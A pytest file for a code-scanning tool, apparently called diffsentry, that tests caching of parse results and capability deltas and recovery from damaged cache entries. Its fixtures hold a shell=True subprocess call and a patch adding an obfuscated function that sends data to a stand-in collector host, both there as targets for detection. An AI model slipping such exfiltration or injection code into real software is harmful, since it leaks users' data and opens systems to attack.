"""A run answered from the cache parses nothing and reports the same: parse facts and the
capability delta are cached artefacts too, and a damaged entry is computed again with one note."""

from __future__ import annotations

import json
import logging
import sqlite3
import textwrap
from pathlib import Path

import pytest

from analyzer import cache, parse, parse_facts, pipeline, sources
from analyzer.catalogue import Catalogue
from analyzer.diff import Revisions
from analyzer.findings import NoticeLevel

SUPPRESSED = textwrap.dedent("""\
    import subprocess


    def run(cmd):
        subprocess.call(  # diffsentry: ignore[B602] the statement spans three lines
            cmd, shell=True,
        )
        subprocess.call(cmd, shell=True)
""")
FILES = {
    "app.py": SUPPRESSED,
    "broken.py": "def handler(request)\n    return request\n",  # DS603
    "newer.py": "type Payload = bytes\n\n\ndef run(cmd: Payload) -> Payload:\n    return cmd\n",  # 3.12 syntax
    "quiet.py": "VALUE = 1\n",
    "requirements.txt": "requests==2.32.3\n",
}
RULES = ["B602", "DS603", "DS6"]


@pytest.fixture
def tree(tmp_path) -> Path:
    for name, text in FILES.items():
        (tmp_path / name).write_text(text, encoding="utf-8")
    return tmp_path


def scan(tree: Path, catalogue: Catalogue, cache_dir: Path | None, rules=RULES) -> pipeline.Report:
    return pipeline.scan_paths([tree], tree, catalogue.select(rules), pipeline.Options(cache_dir=cache_dir))


def outcome(report: pipeline.Report) -> tuple:
    return ([(f.rule_id, f.path, f.region, f.message, f.suppression, f.fingerprint) for f in report.findings],
            report.notices, report.files)


@pytest.fixture
def parses(monkeypatch) -> list[str]:
    """The Python files parsed from here on."""
    seen: list[str] = []
    real = parse.parse_source

    def counting(path, text, **kwargs):
        if not sources.is_manifest_name(path):  # a manifest's "parse" reads nothing
            seen.append(path)
        return real(path, text, **kwargs)

    monkeypatch.setattr(parse_facts, "parse_source", counting)
    return seen


def test_a_warm_run_parses_nothing_and_reports_the_same(tree, tmp_path, catalogue, parses):
    uncached = scan(tree, catalogue, None)
    rule_ids = {f.rule_id for f in uncached.findings}
    assert {"B602", "DS603"} <= rule_ids and any(f.suppression for f in uncached.findings)  # the case is real
    assert any(n.level is NoticeLevel.NOTE and n.path == "newer.py" for n in uncached.notices)
    cold = scan(tree, catalogue, tmp_path / "cache")
    parses.clear()
    warm = scan(tree, catalogue, tmp_path / "cache")
    assert parses == []
    assert outcome(warm) == outcome(cold) == outcome(uncached)


def test_spans_are_worked_out_when_a_file_gains_findings(tree, tmp_path, catalogue, parses):
    scan(tree, catalogue, tmp_path / "cache", rules=["DS603"])  # no finding in app.py: no spans stored
    parses.clear()
    warm = scan(tree, catalogue, tmp_path / "cache")  # Bandit's results for app.py are not cached yet
    assert outcome(warm) == outcome(scan(tree, catalogue, None))
    parses.clear()
    assert outcome(scan(tree, catalogue, tmp_path / "cache")) == outcome(warm) and parses == []


def facts_entries(cache_dir: Path, tree: Path) -> list[str]:
    key = parse_facts.key(pipeline.Options().per_file_timeout_s)
    files, _ = sources.collect_files([tree], tree)
    return [cache.content_key(key, f.path, f.text) for f in files]


@pytest.mark.parametrize("damage", [b"\x78\x9c not zlib", "not json", json.dumps({"notice": None}),
                                    json.dumps({"notice": None, "syntax_error": None, "spans": [[1]]})])
def test_a_damaged_facts_entry_is_parsed_again_with_one_note(tree, tmp_path, catalogue, caplog, damage):
    import zlib

    cold = scan(tree, catalogue, tmp_path / "cache")
    keys = facts_entries(tmp_path / "cache", tree)
    value = damage if isinstance(damage, bytes) else zlib.compress(damage.encode())
    with sqlite3.connect(cache.database_path(tmp_path / "cache")) as db:
        changed = db.execute(f"UPDATE results SET value = ? WHERE key IN ({','.join('?' * len(keys))})",
                             [value, *keys]).rowcount
        # The run as a whole is stored too (`analyzer.run_cache`): without it, the per-file entries are read.
        assert db.execute("DELETE FROM results WHERE key LIKE 'run-%'").rowcount == 1
    assert changed == len(FILES)
    with caplog.at_level(logging.WARNING, logger="diffsentry.cache"):
        damaged = scan(tree, catalogue, tmp_path / "cache")
    assert outcome(damaged) == outcome(cold)
    notes = [r.getMessage() for r in caplog.records]
    assert len(notes) == 1 and "unreadable entr" in notes[0], notes
    caplog.clear()
    with caplog.at_level(logging.WARNING, logger="diffsentry.cache"):
        assert outcome(scan(tree, catalogue, tmp_path / "cache")) == outcome(cold)  # stored again
    assert not caplog.records


def test_a_failed_parser_process_is_not_remembered(tmp_path, monkeypatch):
    """A file with marks of newer syntax that the parser process rejects may have hit a timeout:
    its syntax error is not stored, so the next run asks again."""
    (tmp_path / "odd.py").write_text('print(f"{x}" oops)\n', encoding="utf-8")
    parsed = parse.parse_source("odd.py", (tmp_path / "odd.py").read_text(encoding="utf-8"))
    assert parsed.syntax_error is not None and not parsed.settled
    plain = parse.parse_source("plain.py", "def handler(request)\n    return request\n")
    assert plain.syntax_error is not None and plain.settled


CHANGE = """\
--- a/app.py
+++ b/app.py
@@ -1,2 +1,6 @@
 import os
 VALUE = os.environ.get("VALUE")
+
+
+def send(data):
+    __import__("urllib.request").request.urlopen("https://collector.example.xyz/up", data)
"""


def test_the_capability_delta_is_cached_and_survives_damage(tmp_path, catalogue, caplog):
    (tmp_path / "app.py").write_text('import os\nVALUE = os.environ.get("VALUE")\n', encoding="utf-8")
    chosen = catalogue.select(["DS603"])

    def diff(cache_dir: Path | None) -> pipeline.Report:
        revisions = Revisions.for_patch(tmp_path, CHANGE)
        return pipeline.scan_change(revisions, chosen, pipeline.Options(cache_dir=cache_dir))

    uncached = diff(None).capabilities
    assert uncached, "the change adds network egress"
    assert diff(tmp_path / "cache").capabilities == uncached
    assert diff(tmp_path / "cache").capabilities == uncached  # from the cache
    with sqlite3.connect(cache.database_path(tmp_path / "cache")) as db:
        db.execute("UPDATE results SET value = ?", (b"\x78\x9c not zlib",))
    with caplog.at_level(logging.WARNING, logger="diffsentry.cache"):
        assert diff(tmp_path / "cache").capabilities == uncached
    assert len(caplog.records) == 1


def test_the_light_capability_module_agrees_with_the_model():
    from analyzer.engines.cst.capabilities import change, delta, summary

    assert change.MODULE == summary.MODULE and delta.NewCapability is change.NewCapability
